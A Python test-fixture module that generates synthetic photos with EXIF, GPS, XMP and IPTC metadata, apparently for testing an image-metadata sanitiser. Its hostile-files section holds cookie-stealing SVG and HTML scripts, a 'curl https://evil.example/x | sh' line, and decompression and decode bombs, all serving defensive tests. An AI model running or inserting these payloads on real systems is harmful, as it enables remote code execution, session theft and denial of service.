"""Test photos made in code: camera-like JPEGs with EXIF (GPS, camera, dates, an embedded
thumbnail), XMP, IPTC and comments; PNG, GIF and WebP with their own kinds of metadata;
animations; HEIC and AVIF; and hostile files. Nothing is downloaded.

Also imported by bench/sanitise.py, so it needs only Pillow (and pillow-heif for HEIC).
"""

import io
import random
import struct
import zlib

from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

# --- EXIF, written by hand so it can carry a thumbnail (IFD1), which Pillow cannot write --

ASCII, SHORT, LONG, RATIONAL, UNDEFINED = 2, 3, 4, 5, 7


def _entry_value(kind: int, value) -> tuple[int, bytes]:
    if kind == ASCII:
        data = value.encode() + b"\x00"
        return len(data), data
    if kind == SHORT:
        return 1, struct.pack("<H", value)
    if kind == LONG:
        return 1, struct.pack("<I", value)
    if kind == RATIONAL:
        return len(value), b"".join(struct.pack("<II", n, d) for n, d in value)
    return len(value), bytes(value)


def _ifd(entries: list[tuple[int, int, object]], offset: int, next_ifd: int = 0) -> bytes:
    """One TIFF directory placed at `offset`, its out-of-line values right after it."""
    entries = sorted(entries, key=lambda e: e[0])
    data_offset = offset + 2 + 12 * len(entries) + 4
    table, data = b"", b""
    for tag, kind, value in entries:
        count, raw = _entry_value(kind, value)
        if len(raw) <= 4:
            table += struct.pack("<HHI", tag, kind, count) + raw.ljust(4, b"\x00")
        else:
            table += struct.pack("<HHII", tag, kind, count, data_offset + len(data))
            data += raw + (b"\x00" if len(raw) & 1 else b"")
    return struct.pack("<H", len(entries)) + table + struct.pack("<I", next_ifd) + data


def _ifd_size(entries) -> int:
    return len(_ifd(entries, 0))


def camera_exif(*, orientation: int = 1, thumbnail: bool = True, gps: bool = True) -> bytes:
    """EXIF (TIFF bytes, no "Exif" prefix) as a phone writes it: make, model, serial,
    dates, GPS position, orientation and a JPEG thumbnail."""
    ifd0 = [
        (0x010F, ASCII, "Apple"),
        (0x0110, ASCII, "iPhone 15 Pro"),
        (0x0131, ASCII, "17.1"),
        (0x0132, ASCII, "2026:08:01 12:34:56"),
        (0x0112, SHORT, orientation),
    ]
    details = [
        (0x9003, ASCII, "2026:08:01 12:34:56"),
        (0x9004, ASCII, "2026:08:01 12:34:56"),
        (0xA431, ASCII, "F2LXK0Q7P1"),
        (0xA434, ASCII, "iPhone 15 Pro back camera 6.86mm f/1.78"),
        (0x829A, RATIONAL, [(1, 120)]),
    ]
    location = [
        (0x0000, UNDEFINED, b"\x02\x02\x00\x00"),
        (0x0001, ASCII, "N"),
        (0x0002, RATIONAL, [(48, 1), (51, 1), (2400, 100)]),
        (0x0003, ASCII, "E"),
        (0x0004, RATIONAL, [(2, 1), (17, 1), (4000, 100)]),
    ]
    thumb = jpeg_photo(size=(160, 120), seed=7) if thumbnail else b""
    # Lay out: header, IFD0, Exif IFD, GPS IFD, IFD1, thumbnail. Pointer entries are
    # LONGs, so each directory's size is known before the offsets are.
    ifd0 += [(0x8769, LONG, 0)] + ([(0x8825, LONG, 0)] if gps else [])
    at_details = 8 + _ifd_size(ifd0)
    at_location = at_details + _ifd_size(details)
    at_ifd1 = at_location + (_ifd_size(location) if gps else 0)
    ifd1 = [(0x0103, SHORT, 6), (0x0201, LONG, 0), (0x0202, LONG, len(thumb))]
    at_thumb = at_ifd1 + _ifd_size(ifd1)
    ifd0 = [e for e in ifd0 if e[0] not in (0x8769, 0x8825)] + [(0x8769, LONG, at_details)]
    if gps:
        ifd0.append((0x8825, LONG, at_location))
    ifd1 = [(0x0103, SHORT, 6), (0x0201, LONG, at_thumb), (0x0202, LONG, len(thumb))]
    tiff = b"II*\x00" + struct.pack("<I", 8)
    tiff += _ifd(ifd0, 8, next_ifd=at_ifd1 if thumbnail else 0)
    tiff += _ifd(details, at_details)
    if gps:
        tiff += _ifd(location, at_location)
    if thumbnail:
        tiff += _ifd(ifd1, at_ifd1) + thumb
    return tiff


def orientation_only_exif(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return exif


XMP = (
    b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    b'xmlns:tiff="http://ns.adobe.com/tiff/1.0/" '
    b'xmlns:xmp="http://ns.adobe.com/xap/1.0/" '
    b'exif:GPSLatitude="48,51.4N" exif:GPSLongitude="2,17.7E" '
    b'tiff:Model="iPhone 15 Pro" xmp:CreateDate="2026-08-01T12:34:56"/>'
    b'</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


# An APP13 Photoshop/IPTC block with a caption and a city.
def _iptc() -> bytes:
    records = b""
    for dataset, text in ((120, b"Our new flat, door code 4821"), (90, b"Paris")):
        records += b"\x1c\x02" + bytes((dataset,)) + struct.pack(">H", len(text)) + text
    resource = (
        b"8BIM"
        + struct.pack(">H", 0x0404)
        + b"\x00\x00"
        + struct.pack(">I", len(records))
        + records
    )
    if len(records) & 1:
        resource += b"\x00"
    return b"Photoshop 3.0\x00" + resource


def icc_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


# --- pictures -----------------------------------------------------------------------------


def picture(size=(64, 48), *, seed: int = 1, mode: str = "RGB") -> Image.Image:
    """A picture whose orientation can be told: smooth colours with a red block in the
    top-left corner and a blue one in the top-right."""
    rnd = random.Random(seed)
    grid = Image.new("RGB", (8, 6))
    grid.putdata([(rnd.randrange(256), rnd.randrange(256), rnd.randrange(256)) for _ in range(48)])
    image = grid.resize(size, Image.BILINEAR)
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.rectangle((0, 0, max(w // 4, 1) - 1, max(h // 4, 1) - 1), fill=(255, 0, 0))
    draw.rectangle((w - max(w // 4, 1), 0, w - 1, max(h // 4, 1) - 1), fill=(0, 0, 255))
    return image.convert(mode) if mode != "RGB" else image


def camera_picture(size=(4032, 3024), *, seed: int = 1) -> Image.Image:
    """A photo-like picture: smooth regions plus sensor noise, so a JPEG of it is about
    as large as a phone's (3-5 MB at 12 MP)."""
    base = picture((64, 48), seed=seed).resize(size, Image.BICUBIC)
    noise = Image.effect_noise(size, 30).convert("RGB")
    return Image.blend(base, noise, 0.2)


def _encode(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def metadata(
    *, exif: bytes | None = None, icc: bytes | None = None, xmp: bytes | None = None
) -> dict:
    """Pillow save options that write the given EXIF, ICC profile and XMP."""
    options = {}
    if exif is not None:
        options["exif"] = b"Exif\x00\x00" + exif
    if icc is not None:
        options["icc_profile"] = icc
    if xmp is not None:
        options["xmp"] = xmp
    return options


def jpeg_photo(
    size=(64, 48),
    *,
    seed: int = 1,
    exif: bytes | None = None,
    icc: bytes | None = None,
    xmp: bytes | None = None,
    comment: bytes | None = None,
    iptc: bool = False,
    progressive: bool = False,
    image: Image.Image | None = None,
    quality: int = 90,
) -> bytes:
    options = {"quality": quality, "progressive": progressive}
    options.update(metadata(exif=exif, icc=icc, xmp=xmp))
    if comment is not None:
        options["comment"] = comment
    data = _encode(image if image is not None else picture(size, seed=seed), "JPEG", **options)
    if iptc:
        payload = _iptc()
        data = data[:2] + b"\xff\xed" + struct.pack(">H", len(payload) + 2) + payload + data[2:]
    return data


def phone_jpeg(*, orientation: int = 6, size=(64, 48)) -> bytes:
    """What a phone sends: portrait shot stored landscape with an orientation tag, GPS,
    camera, dates, a thumbnail, XMP, IPTC, a comment and an ICC profile."""
    return jpeg_photo(
        size,
        exif=camera_exif(orientation=orientation),
        icc=icc_profile(),
        xmp=XMP,
        comment=b"taken at home",
        iptc=True,
    )


def png_photo(size=(40, 30), *, mode="RGBA", exif=None, icc=None, text=True, trailer=b"") -> bytes:
    info = PngInfo()
    if text:
        info.add_text("Comment", "taken at home")
        info.add_text("Creation Time", "2026:08:01 12:34:56")
        info.add_itxt("XML:com.adobe.xmp", XMP.decode())
        info.add_text("Software", "Camera 1.0", zip=True)
        info.add(b"tIME", struct.pack(">HBBBBB", 2026, 8, 1, 12, 34, 56))
    options = {"pnginfo": info}
    options.update(metadata(exif=exif, icc=icc))
    return _encode(picture(size, mode=mode), "PNG", **options) + trailer


def frames(count=3, size=(32, 24)) -> list[Image.Image]:
    return [picture(size, seed=seed) for seed in range(count)]


def animated_gif(durations=(100, 250, 400), *, comment=b"made for you", xmp=True) -> bytes:
    pictures = [f.convert("P", palette=Image.ADAPTIVE) for f in frames(len(durations))]
    data = _encode(
        pictures[0],
        "GIF",
        save_all=True,
        append_images=pictures[1:],
        duration=list(durations),
        loop=0,
        comment=comment,
    )
    if xmp:  # an XMP application extension, as Photoshop writes, just before the trailer
        body = XMP + bytes(range(0xFF, -1, -1)) + b"\x00"  # the "magic trailer" XMP ends with
        data = data[:-1] + b"\x21\xff\x0bXMP DataXMP" + body + b"\x3b"
    return data


def still_gif(size=(20, 10)) -> bytes:
    return _encode(picture(size).convert("P", palette=Image.ADAPTIVE), "GIF", comment=b"hello")


def animated_webp(durations=(100, 250, 400), *, exif=None, icc=None, xmp=XMP) -> bytes:
    pictures = frames(len(durations))
    options = {
        "save_all": True,
        "append_images": pictures[1:],
        "duration": list(durations),
        "loop": 0,
    }
    options.update(metadata(exif=exif, icc=icc, xmp=xmp))
    return _encode(pictures[0], "WEBP", **options)


def still_webp(size=(40, 30), *, exif=None, icc=None, xmp=XMP, lossless=False) -> bytes:
    options = {"lossless": lossless, "quality": 90}
    options.update(metadata(exif=exif, icc=icc, xmp=xmp))
    return _encode(picture(size), "WEBP", **options)


def heic_photo(size=(64, 48), *, orientation=6, icc=None, mode="RGB") -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif.load(camera_exif(orientation=orientation, thumbnail=False))
    options = {"exif": exif.tobytes(), "quality": 90, "xmp": XMP}
    if icc is not None:
        options["icc_profile"] = icc
    return _encode(picture(size, mode=mode), "HEIF", **options)


def avif_photo(size=(64, 48), *, orientation=1, icc=None, mode="RGB") -> bytes:
    exif = Image.Exif()
    exif.load(camera_exif(orientation=orientation, thumbnail=False))
    options = {"exif": exif.tobytes(), "quality": 90, "xmp": XMP}
    if icc is not None:
        options["icc_profile"] = icc
    return _encode(picture(size, mode=mode), "AVIF", **options)


def one_pixel(fmt: str) -> bytes:
    if fmt == "HEIF":
        import pillow_heif

        pillow_heif.register_heif_opener()
    mode = "P" if fmt == "GIF" else "RGB"
    return _encode(Image.new(mode, (1, 1)), fmt)


# --- hostile files ------------------------------------------------------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(width: int, height: int) -> bytes:
    """A few hundred bytes that declare a huge picture: a decompression bomb's header."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    # The first rows of zeros, compressed: the real bomb would inflate to width*height*3.
    idat = zlib.compress(b"\x00" * (width * 3 + 1) * 4, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>'
)
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
HTML = (
    b"<!doctype html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"
)
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


# --- decode bombs and hidden data (issue 11; bench/hostile.py builds the full-size ones) --


def scan_bomb(size=(64, 48), *, repeats: int = 150) -> bytes:
    """A progressive JPEG whose last scan is repeated before the end: libjpeg only warns,
    and walks the whole picture once per repeat."""
    # One flat colour: every refinement scan is a few bytes, yet walks the whole picture.
    data = jpeg_photo(size, image=Image.new("RGB", size, (90, 140, 200)), progressive=True)
    last_scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last_scan * repeats + b"\xff\xd9"


def jpeg_with_adobe(extra: bytes = b"", size=(16, 16)) -> bytes:
    """A JPEG with an APP14 "Adobe" segment (version 100, no flags, transform 1) followed
    by `extra` inside the same segment."""
    payload = b"Adobe" + struct.pack(">HHHB", 100, 0, 0, 1) + extra
    data = jpeg_photo(size)
    return data[:2] + b"\xff\xee" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def png_with_chunk(kind: bytes, body: bytes, size=(16, 16)) -> bytes:
    """A PNG (RGB, no text) with one more chunk just after IHDR."""
    data = _encode(picture(size), "PNG")
    after_ihdr = 8 + 25
    return data[:after_ihdr] + _png_chunk(kind, body) + data[after_ihdr:]


def gif_of_frames(count: int, size=(1, 1)) -> bytes:
    """A GIF of `count` frames written by hand: each a graphic control (10 ms) and one
    image in colour 0 (a minimal LZW stream: clear, 0, end). Only 1x1 frames decode; larger
    ones declare their size over the same few codes, for files refused before decoding."""
    width, height = size
    colours = b"\x00\x00\x00\xff\xff\xff"  # a global table of two: black, white
    header = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + colours
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"
    # 2-bit code size, so 3-bit codes packed LSB first: clear (4), index 0, end (5).
    lzw = bytes([0x44, 0x01])
    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
    image = descriptor + b"\x02" + bytes([len(lzw)]) + lzw + b"\x00"
    return header + loop + (control + image) * count + b"\x3b"
